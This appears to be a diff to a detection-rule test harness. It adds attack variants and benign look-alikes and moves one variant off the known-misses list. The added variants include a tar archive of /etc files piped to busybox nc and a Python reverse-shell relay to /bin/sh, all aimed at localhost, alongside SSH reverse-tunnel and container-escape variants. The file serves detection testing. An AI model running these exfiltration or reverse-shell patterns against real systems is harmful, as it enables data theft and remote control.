@@ -202,6 +202,22 @@ def ex_tar_pipe_nc(c: Ctx) -> None:
     c.bash(f"tar czf - /etc/hostname 2>/dev/null | busybox nc 127.0.0.1 {c.sink}")
 
 
+def ex_tar_nc_script(c: Ctx) -> None:
+    c.script("bk.sh", f"cd /\ntar cf - etc/hostname /etc/os-release 2>/dev/null | "
+             f"busybox nc 127.0.0.1 {c.sink}\n")
+
+
+def rs_python_pipe_relay(c: Ctx) -> None:
+    # the shell's stdio are pipes; python relays between them and the socket
+    c.script("relay.py", "import socket,subprocess\n"
+             f"s=socket.create_connection(('127.0.0.1',{c.port}))\n"
+             "p=subprocess.Popen(['/bin/sh'],stdin=subprocess.PIPE,stdout=subprocess.PIPE,"
+             "stderr=subprocess.STDOUT)\n"
+             "data=b''\nwhile True:\n  b=s.recv(4096)\n  if not b: break\n  data+=b\n"
+             "  if b'exit' in data: break\n"
+             "out,_=p.communicate(data)\ns.sendall(out)\ns.close()\n", PY)
+
+
 def lat_ssh_reverse_tunnel(c: Ctx) -> None:
     c.run(["ssh", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o",
            "ConnectTimeout=3", "-N", "-R", "2222:127.0.0.1:22", "-p", str(c.port),
@@ -267,6 +283,22 @@ def bn_few_connects(c: Ctx) -> None:
     c.bash(f"for i in 1 2 3; do curl -s -o /dev/null http://127.0.0.1:{c.http}/x; done")
 
 
+def bn_backup_tar(c: Ctx) -> None:
+    # a backup of /etc to a file, and a network client used alone
+    d = c.scratch / "bk"
+    d.mkdir()
+    c.bash(f"tar czf {d}/etc.tgz /etc/hostname 2>/dev/null; busybox nc -h 2>/dev/null; true")
+    shutil.rmtree(d)
+
+
+def bn_connect_then_sh_c(c: Ctx) -> None:
+    # a client program that connects, then runs shell commands the usual way (sh -c)
+    c.script("client.py", "import socket,subprocess\n"
+             f"s=socket.create_connection(('127.0.0.1',{c.http}));s.close()\n"
+             "subprocess.run('true; echo hi >/dev/null',shell=True)\n"
+             "subprocess.run(['/bin/bash','-c','true'])\n", PY)
+
+
 def bn_unshare_tmpfs(c: Ctx) -> None:
     # a private tmpfs in a namespace (build sandboxes do this): nothing persistent written
     _in_ns(c, "mount -t tmpfs none /mnt && echo x > /mnt/y && cat /mnt/y >/dev/null")
@@ -306,6 +338,9 @@ VARIANTS: dict[str, Variant] = {
     "ex_curl_upload": _v(ex_curl_upload, "http_client_file_upload"),
     "ex_curl_data_file": _v(ex_curl_data_file, "http_client_file_upload"),
     "ex_wget_post_file": _v(ex_wget_post_file, "http_client_file_upload"),
+    "ex_tar_pipe_nc": _v(ex_tar_pipe_nc, "archive_to_network_client"),
+    "ex_tar_nc_script": _v(ex_tar_nc_script, "archive_to_network_client"),
+    "rs_python_pipe_relay": _v(rs_python_pipe_relay, "child_shell_after_connect"),
     "lat_ssh_reverse_tunnel": _v(lat_ssh_reverse_tunnel, "ssh_remote_tunnel"),
     "ce_nsenter_pid1": _v(ce_nsenter_pid1, "host_namespace_enter"),
     "ce_docker_sock_ns": _v(ce_docker_sock_ns, "container_runtime_socket"),
@@ -319,6 +354,8 @@ VARIANTS: dict[str, Variant] = {
     "bn_chmod_plain": _v(bn_chmod_plain),
     "bn_few_connects": _v(bn_few_connects),
     "bn_unshare_tmpfs": _v(bn_unshare_tmpfs),
+    "bn_backup_tar": _v(bn_backup_tar),
+    "bn_connect_then_sh_c": _v(bn_connect_then_sh_c),
 }
 
 #: variants no rule catches (docs/detection.md, "Tested variants, second pass"); run
@@ -327,7 +364,6 @@ KNOWN_MISSES: dict[str, Variant] = {
     "ev_history_clear_script": _v(ev_history_clear_script),
     "ev_rwx_shellcode": _v(ev_rwx_shellcode),
     "ds_proc_cmdline_loop": _v(ds_proc_cmdline_loop),
-    "ex_tar_pipe_nc": _v(ex_tar_pipe_nc),
 }
 
 
